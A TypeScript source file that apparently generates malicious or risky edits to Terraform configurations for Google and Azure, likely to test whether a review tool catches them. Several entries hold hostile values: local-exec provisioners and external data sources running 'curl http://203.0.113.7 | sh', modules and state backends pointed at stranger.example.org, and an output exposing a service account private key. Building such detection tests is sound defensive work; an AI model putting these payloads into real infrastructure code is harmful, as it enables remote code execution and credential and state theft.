import { type Kind, real, removed } from '../kind.js';
import { edit, instead, resources, rows, valueAt } from '../places.js';

const terraformRoots: Kind['edits'] = rows(
  ...(['@google', '@azure'] as const).flatMap((cloud) => [
    [cloud, 'module/added', { source: 'git::https://stranger.example.org/x.git' }] as const,
    [cloud, 'data/terraform_remote_state/added', { backend: 'http', config: { address: 'https://stranger.example.org' } }] as const,
    [cloud, 'data/external/added', { program: ['sh', '-c', 'curl http://203.0.113.7'] }] as const,
    [cloud, 'data/http/added', { url: 'https://stranger.example.org' }] as const,
    [cloud, 'data/aws_caller_identity/added', {}] as const,
    [cloud, 'moved', [{ from: 'a.b', to: 'a.c' }]] as const,
    [cloud, 'removed', [{ from: 'google_kms_crypto_key.x', lifecycle: { destroy: true } }]] as const,
    [cloud, 'import', [{ to: 'a.b', id: 'x' }]] as const,
    [cloud, 'resource/null_resource/added', { provisioner: [{ 'local-exec': { command: 'curl http://203.0.113.7 | sh' } }] }] as const,
    [cloud, 'resource/terraform_data/added', { provisioner: [{ 'local-exec': { command: 'curl http://203.0.113.7 | sh' } }] }] as const,
    [cloud, 'resource/random_password/added', { length: 3 }] as const,
    [cloud, 'resource/google_quantum_computer/added', {}] as const,
    [cloud, 'output/added', { value: '${google_service_account_key.x.private_key}' }] as const,
    [cloud, 'ephemeral/x/added', {}] as const,
  ]),
);

export const terraform: readonly Kind[] = [
  real(
    'Terraform construct that hides a value',
    terraformRoots,
    rows(
      ['*terraform', 'count', 0],
      ['*terraform', 'for_each', { a: 'b' }],
      ['*terraform', 'provisioner', [{ 'local-exec': { command: 'curl http://203.0.113.7 | sh' } }]],
      ['*terraform', 'connection', { host: '203.0.113.7' }],
      ['*terraform', 'dynamic', { allow: { for_each: ['a'], content: { protocol: 'all' } } }],
      ['*terraform', 'provider', 'google.other'],
      ['*terraform', 'lifecycle/ignore_changes', 'all'],
      ['terraform_data', 'provisioner/local-exec/command', 'curl http://203.0.113.7 | sh'],
    ),
  ),
  real('value that Terraform decides', function* (stack) {
    if (stack.app === 'aws') return;
    for (const { type, properties } of resources(stack)) {
      if (/^terraform_data$/.test(type)) continue;
      for (const [key, before] of Object.entries(valueAt(stack.document, properties) ?? {})) {
        if (/^(\/\/|depends_on|lifecycle|description|display_name|title|name)$/.test(key) || typeof before === 'object') continue;
        yield* edit(stack, [...properties, key], '${var.chosen}');
        if (typeof before === 'string' && !before.includes('${')) yield* edit(stack, [...properties, key], `\${true ? "${before}" : "x"}`);
      }
    }
  }),
  real('provider taken away', function* (stack) {
    if (stack.app === 'aws') return;
    for (const name of Object.keys((stack.document['provider'] ?? {}) as object)) {
      yield* edit(stack, ['provider', name], removed);
      yield* edit(stack, ['terraform', 'required_providers', name], removed);
    }
  }),
  real(
    'provider or backend changed',
    rows(
      ['@cloudflare', 'provider/cloudflare/0/api_token', 'secret'],
      ['@cloudflare', 'provider/cloudflare/0/base_url', 'https://stranger.example.org'],
      ['@oci', 'provider/oci/0/region', 'uk-london-1'],
      ['@oci', 'provider/oci/0/private_key', 'secret'],
      ['@oci', 'provider/oci/0/tenancy_ocid', 'ocid1.tenancy.oc1..stranger'],
      ['@google', 'provider/google/0/alias', 'other'],
      ['@google', 'provider/google/0/impersonate_service_account', 'x@stranger.iam.gserviceaccount.com'],
      ['@google', 'provider/google/0/credentials', '{"type":"service_account"}'],
      ['@google', 'provider/google/0/access_token', 'ya29.secret'],
      ['@google', 'provider/google/0/storage_custom_endpoint', 'https://stranger.example.org'],
      ['@google', 'provider/google/0/project', 'stranger-project'],
      ['@google', 'provider/google/0/billing_project', 'stranger-project'],
      ['@google', 'provider/google/0/region', 'asia-east1'],
      ['@google', 'provider/google/1', { alias: 'other', project: 'stranger-project' }],
      ['@google', 'provider/aws', [{ region: 'us-east-1' }]],
      ['@google', 'terraform/required_providers/google/version', '>= 1.0'],
      ['@google', 'terraform/required_providers/google/version', '7.0.0'],
      ['@google', 'terraform/required_providers/google/source', 'stranger/google'],
      ['@google', 'terraform/required_providers/more', { source: 'stranger/more', version: '1.0.0' }],
      ['@google', 'terraform/cloud', { organization: 'stranger', workspaces: { name: 'x' } }],
      ['@google', 'terraform/experiments', ['module_variable_optional_attrs']],
      ['@google', 'terraform/provider_meta', { google: { module_name: 'x' } }],
      ['@google', 'terraform/backend', { local: {} }],
      ['@google', 'terraform/backend', { http: { address: 'https://stranger.example.org' } }],
      ['@google', 'terraform/backend', removed],
      ['@google', 'terraform/backend/gcs/bucket', instead('stranger-state')],
      ['@google', 'terraform/backend/gcs/kms_encryption_key', removed],
      ['@google', 'terraform/backend/gcs/kms_encryption_key', instead('projects/stranger/locations/europe-west4/keyRings/x/cryptoKeys/y')],
      ['@google', 'terraform/backend/gcs/prefix', instead('other')],
      ['@google', 'terraform/backend/gcs/impersonate_service_account', 'x@stranger.iam.gserviceaccount.com'],
      ['@google', 'terraform/backend/gcs/encryption_key', 'c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0MTI='],
      ['@azure', 'provider/azurerm/0/alias', 'other'],
      ['@azure', 'provider/azurerm/0/subscription_id', '99999999-0000-0000-0000-000000000000'],
      ['@azure', 'provider/azurerm/0/tenant_id', '99999999-0000-0000-0000-000000000000'],
      ['@azure', 'provider/azurerm/0/client_secret', 'secret'],
      ['@azure', 'provider/azurerm/0/metadata_host', 'stranger.example.org'],
      ['@azure', 'provider/azurerm/0/features', [{ key_vault: [{ purge_soft_delete_on_destroy: true }] }]],
      ['@azure', 'provider/azurerm/1', { alias: 'other', features: [{}] }],
      ['@azure', 'provider/azapi/0/subscription_id', '99999999-0000-0000-0000-000000000000'],
      ['@azure', 'provider/azapi/0/client_secret', 'secret'],
      ['@azure', 'provider/azapi/0/skip_provider_registration', false],
      ['@azure', 'provider/azapi/0/endpoint', [{ resource_manager_endpoint: 'https://stranger.example.org' }]],
      ['@azure', 'terraform/required_providers/azapi/source', 'stranger/azapi'],
      ['@azure', 'terraform/required_providers/azapi/version', '>= 1.0'],
      ['@azure', 'terraform/required_providers/azurerm/version', '>= 3.0'],
      ['@azure', 'terraform/required_providers/azurerm/source', 'stranger/azurerm'],
      ['@azure', 'terraform/cloud', { organization: 'stranger', workspaces: { name: 'x' } }],
      ['@azure', 'terraform/backend', { local: {} }],
      ['@azure', 'terraform/backend', removed],
      ['@azure', 'terraform/backend/azurerm/storage_account_name', instead('stranger')],
      ['@azure', 'terraform/backend/azurerm/container_name', instead('other')],
      ['@azure', 'terraform/backend/azurerm/key', instead('other')],
      ['@azure', 'terraform/backend/azurerm/use_azuread_auth', instead(false)],
      ['@azure', 'terraform/backend/azurerm/access_key', 'secret'],
    ),
  ),
];
